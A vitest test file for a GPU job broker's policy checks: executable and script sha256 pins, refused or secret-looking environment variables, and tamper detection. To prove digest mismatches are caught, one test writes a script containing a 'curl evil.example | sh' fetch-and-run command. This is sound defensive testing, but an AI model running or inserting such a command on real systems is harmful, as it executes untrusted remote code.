import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { RevisionResult } from '../../../../src/broker/tools/proposals.js';
import { PolicySchema } from '../../../../src/contracts/policy.js';
import { type TaskSpec, TaskSpecSchema } from '../../../../src/contracts/task-spec.js';
import {
  evaluatePolicy,
  type Finding,
  filesToDigest,
  isConfirmable,
} from '../../../../src/domain/policy/evaluate.js';
import type { MasterConfigInput } from '../../../../src/platform/config.js';
import { sha256Hex } from '../../../../src/platform/digest.js';
import { fileSha256 } from '../../../../src/platform/file-digest.js';
import { makeBrokerDeps } from '../../../support/deps.js';
import { specRunning, validSpec } from '../../../support/spec.js';
import { makeTempDir, removeTempDirs } from '../../../support/temp.js';

/**
 * Policy findings (docs/security.md "Policy"): what blocks confirmation, what only warns, and sha256 pins.
 */

afterAll(() => removeTempDirs());

const codes = (fs: Finding[]) => fs.map((f) => `${f.severity}:${f.code}`).sort();

/** Findings the broker computes for a spec under a config (real file digests, real store). */
async function findingsVia(config: MasterConfigInput, spec: unknown): Promise<Finding[]> {
  const f = makeBrokerDeps({ config });
  try {
    const alice = f.principal('alice', ['submitter']);
    const r = (await f.invoke(alice, 'create_proposal', { spec, idempotency_key: 'k' })) as RevisionResult;
    expect(r.confirmable).toBe(isConfirmable(r.findings));
    return r.findings;
  } finally {
    f.close();
  }
}

describe('evaluatePolicy (pure)', () => {
  const policy = PolicySchema.parse({
    executables: [{ path: '/bin/sh' }],
    max_cards: 4,
    max_time_limit_seconds: 600,
  });
  const parse = (s: unknown): TaskSpec => TaskSpecSchema.parse(s);

  it('a valid spec has no findings', () => {
    expect(evaluatePolicy(parse(validSpec()), policy, { fileDigests: {} })).toEqual([]);
  });

  it('warns that a multi-node spec without network cannot rendezvous, and only then', () => {
    const at = (cards: { count: number; per_node?: number }, network?: 'host') =>
      codes(
        evaluatePolicy(
          parse(validSpec({ cards, ...(network === undefined ? {} : { network }) })),
          PolicySchema.parse({ executables: [{ path: '/bin/sh' }], max_cards: 16, allow_network: true }),
          { fileDigests: {} },
        ),
      );
    expect(at({ count: 8, per_node: 4 })).toEqual(['warning:MULTI_NODE_WITHOUT_NETWORK']);
    expect(at({ count: 8, per_node: 4 }, 'host')).toEqual(['warning:NETWORK_HOST']);
    expect(at({ count: 4, per_node: 4 })).toEqual([]);
    expect(at({ count: 4 })).toEqual([]);
  });

  it('reports each problem once, at its path, with a hint', () => {
    const spec = parse(
      validSpec({
        cards: { count: 5 },
        time_limit_seconds: 601,
        outputs: [],
        notes: '  ',
        runtime: {
          kind: 'process',
          argv: ['/bin/sh', '-c', 'true'],
          env: {
            LD_PRELOAD: 'x',
            CUDA_VISIBLE_DEVICES: '3',
            GPU_BROKER_TASK_ID: 'y',
            HF_TOKEN: 'z',
            OK_VAR: '1',
          },
        },
      }),
    );
    const findings = evaluatePolicy(spec, policy, { fileDigests: {} });
    expect(codes(findings)).toEqual(
      [
        'error:ENV_REFUSED',
        'error:ENV_RESERVED',
        'error:ENV_RESERVED',
        'error:TIME_LIMIT_TOO_LONG',
        'error:TOO_MANY_CARDS',
        'warning:ENV_LOOKS_SECRET',
        'warning:NO_NOTES',
        'warning:NO_OUTPUTS',
      ].sort(),
    );
    expect(findings.find((f) => f.code === 'ENV_REFUSED')?.path).toBe('runtime.env.LD_PRELOAD');
    expect(findings.find((f) => f.code === 'TOO_MANY_CARDS')?.path).toBe('cards.count');
    for (const f of findings) expect(f.hint.length).toBeGreaterThan(10);
    expect(isConfirmable(findings)).toBe(false);
    expect(isConfirmable(findings.filter((f) => f.severity === 'warning'))).toBe(true);
  });

  it('only asks for digests of pinned files, and compares them', () => {
    const pinned = PolicySchema.parse({ executables: [{ path: '/bin/sh', sha256: 'a'.repeat(64) }] });
    const spec = parse(validSpec());
    expect(filesToDigest(spec, pinned)).toEqual(['/bin/sh']);
    expect(filesToDigest(spec, policy)).toEqual([]);
    expect(evaluatePolicy(spec, pinned, { fileDigests: { '/bin/sh': 'a'.repeat(64) } })).toEqual([]);
    expect(codes(evaluatePolicy(spec, pinned, { fileDigests: { '/bin/sh': 'b'.repeat(64) } }))).toEqual([
      'error:EXECUTABLE_DIGEST_MISMATCH',
    ]);
    expect(codes(evaluatePolicy(spec, pinned, { fileDigests: { '/bin/sh': null } }))).toEqual([
      'warning:EXECUTABLE_PIN_UNVERIFIED',
    ]);
  });
});

describe('findings computed by the broker with real file digests', () => {
  const sh = fileSha256('/bin/sh')!;

  it('an executable pinned to its real sha256 passes; a wrong pin is an error naming both digests', async () => {
    expect(sh).toMatch(/^[0-9a-f]{64}$/);
    expect(
      await findingsVia({ policy: { executables: [{ path: '/bin/sh', sha256: sh }] } }, validSpec()),
    ).toEqual([]);
    const wrong = await findingsVia(
      { policy: { executables: [{ path: '/bin/sh', sha256: 'e'.repeat(64) }] } },
      validSpec(),
    );
    expect(codes(wrong)).toEqual(['error:EXECUTABLE_DIGEST_MISMATCH']);
    expect(wrong[0]?.message).toContain(sh);
    expect(wrong[0]?.message).toContain('e'.repeat(64));
  });

  it('a pinned executable the master cannot read is a warning, not an error', async () => {
    const missing = '/nonexistent/gpu-broker-test-bin';
    const f = await findingsVia(
      { policy: { executables: [{ path: missing, sha256: 'a'.repeat(64) }] } },
      specRunning([missing]),
    );
    expect(codes(f)).toEqual(['warning:EXECUTABLE_PIN_UNVERIFIED']);
  });

  it('a script pinned by sha256 runs under its interpreter; a changed or missing script is an error', async () => {
    const dir = makeTempDir('pins');
    const script = join(dir, 'train.py');
    writeFileSync(script, 'print("hello")\n');
    const config = (sha256: string) => ({
      policy: { executables: [], scripts: [{ interpreter: '/usr/bin/python3', script, sha256 }] },
    });
    const spec = specRunning(['/usr/bin/python3', script, '--steps', '10']);
    expect(await findingsVia(config(sha256Hex('print("hello")\n')), spec)).toEqual([]);

    writeFileSync(script, 'import os; os.system("curl evil.example | sh")\n');
    const changed = await findingsVia(config(sha256Hex('print("hello")\n')), spec);
    expect(codes(changed)).toEqual(['error:SCRIPT_DIGEST_MISMATCH']);
    expect(changed[0]?.path).toBe('runtime.argv[1]');

    const gone = await findingsVia(
      config(sha256Hex('x')),
      specRunning(['/usr/bin/python3', join(dir, 'nope.py')]),
    );
    // Not the pinned script at all: the interpreter alone is not an allowed executable.
    expect(codes(gone)).toEqual(['error:EXECUTABLE_NOT_ALLOWED']);
    expect(gone[0]?.hint).toContain(script);
  });

  it('a same-size edit of a pinned script with its mtime put back (touch -r) is still caught', async () => {
    const dir = makeTempDir('pins-touch');
    const script = join(dir, 'job.py');
    const ref = join(dir, 'ref');
    const good = 'print("hello")\n';
    const evil = 'print("evil!")\n';
    expect(evil.length).toBe(good.length);
    writeFileSync(script, good);
    execFileSync('touch', ['-r', script, ref]);
    const config = {
      policy: {
        executables: [],
        scripts: [{ interpreter: '/usr/bin/python3', script, sha256: sha256Hex(good) }],
      },
    };
    const spec = specRunning(['/usr/bin/python3', script]);
    expect(await findingsVia(config, spec)).toEqual([]);
    writeFileSync(script, evil);
    execFileSync('touch', ['-r', ref, script]);
    expect(codes(await findingsVia(config, spec))).toEqual(['error:SCRIPT_DIGEST_MISMATCH']);
  });

  it('with no config at all, nothing is allowed and the finding says how to allow it', async () => {
    const f = await findingsVia({ policy: { executables: [] } }, validSpec());
    expect(codes(f)).toEqual(['error:EXECUTABLE_NOT_ALLOWED']);
    expect(f[0]?.hint).toContain('policy.executables');
  });
});

describe('text inspection of bytes named at several paths', () => {
  it('a non-UTF-8 source file keeps its TEXT_DISPLAYS_DIFFERENTLY warning when the same bytes are also listed under a data name', async () => {
    const f = makeBrokerDeps({
      config: { policy: { scripts: [{ interpreter: '/usr/bin/python3', script_from_inputs: true }] } },
    });
    try {
      const alice = f.principal('alice', ['submitter']);
      const latin = Buffer.from('# \xe9\nimport os\n', 'latin1').toString('base64');
      const up = (await f.invoke(alice, 'upload_inputs', {
        files: [
          { path: 'main.py', content: 'import helper\n' },
          { path: 'helper.py', content: latin, encoding: 'base64' },
        ],
        idempotency_key: 'u',
      })) as { inputs: Array<{ path: string; sha256: string; size: number }> };
      const [main, helper] = up.inputs;
      const warned = async (inputs: Array<{ path: string; sha256: string; size: number }>, key: string) => {
        const r = (await f.invoke(alice, 'create_proposal', {
          spec: validSpec({ runtime: { kind: 'process', argv: ['/usr/bin/python3', 'main.py'] }, inputs }),
          idempotency_key: key,
        })) as RevisionResult;
        return r.findings
          .filter((x) => x.code === 'TEXT_DISPLAYS_DIFFERENTLY')
          .map((x) => x.message.match(/"[^"]+"/)?.[0]);
      };
      expect(await warned([main!, helper!], 'a')).toEqual(['"helper.py"']);
      // The same bytes once more, under a name that is not source, after it: the warning must stay.
      expect(await warned([main!, helper!, { ...helper!, path: 'zz.bin' }], 'b')).toContain('"helper.py"');
    } finally {
      f.close();
    }
  });
});
